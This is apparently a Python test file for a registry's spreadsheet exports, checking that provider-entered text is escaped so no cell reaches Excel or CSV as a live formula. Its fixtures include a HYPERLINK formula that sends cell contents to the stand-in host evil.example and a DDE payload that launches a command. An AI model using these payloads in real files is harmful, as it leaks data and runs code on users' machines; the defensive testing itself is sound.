"""CSV injection: text typed by providers never reaches a spreadsheet as a live formula.

Every export is read back: openpyxl must find no formula cell (data_type 'f'), a CSV no cell
starting with = + - @ tab or CR; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import httpx
from openpyxl import load_workbook

from registry.evaluation.summary import evaluation_summary_xlsx
from registry.public.projection import refresh
from registry.spreadsheets import FORMULA_STARTS, safe_cell
from registry.tables import Organisation
from tests.cast import CAST, HEPING, listing_in
from tests.documents.test_evaluation_report import good_inputs, open_cycle, store_result
from tests.factories import valid_application
from workflows.states import State

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看证书")'
DDE = "+cmd|' /C calc'!A0"


def test_text_that_starts_a_formula_is_quoted_and_numbers_pass() -> None:
    for text in (LINK, DDE, "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"):
        assert safe_cell(text) == "'" + text
    for value in ("天津市篮球俱乐部", "120101-000001", "", "—", 42, -3.5, None):
        assert safe_cell(value) == value


async def _listed_with_formulas() -> int:
    form = valid_application()
    form["courses"][0]["name"] = DDE
    listing_id = await listing_in(State.listed, form=form)
    await Organisation.update({Organisation.name: LINK}).where(
        Organisation.id == CAST.organisations["feiyue"]
    )
    await refresh(listing_id)
    return listing_id


async def _export(client: httpx.AsyncClient, fmt: str) -> bytes:
    response = await client.get(
        "/api/v1/whitelist/export", params={"district": HEPING, "format": fmt}
    )
    assert response.status_code == 200, response.text
    return response.content


async def test_whitelist_xlsx_has_no_formula(anonymous: httpx.AsyncClient) -> None:
    await _listed_with_formulas()
    workbook = load_workbook(io.BytesIO(await _export(anonymous, "xlsx")))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert "'" + LINK in texts
    assert any(isinstance(v, str) and v.startswith("'" + DDE) for v in texts)
    numbers = workbook["全部"]["A2"]
    assert numbers.value == 1 and numbers.data_type == "n"


async def test_whitelist_csv_has_no_cell_starting_a_formula(anonymous: httpx.AsyncClient) -> None:
    await _listed_with_formulas()
    rows = list(csv.reader(io.StringIO((await _export(anonymous, "csv")).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert rows[1][1] == "'" + LINK and rows[1][0] == "1"


async def test_evaluation_summary_has_no_formula(db: object) -> None:
    listing_id = await listing_in(State.listed)
    await Organisation.update({Organisation.name: LINK}).where(
        Organisation.id == CAST.organisations["feiyue"]
    )
    cycle_id = await open_cycle()
    await store_result(cycle_id, good_inputs(listing_id), confirmed_by="reviewer")
    sheet = load_workbook(io.BytesIO(await evaluation_summary_xlsx(cycle_id))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert sheet["B2"].value == "'" + LINK
    assert sheet["C2"].data_type == "n"  # the points stay numbers
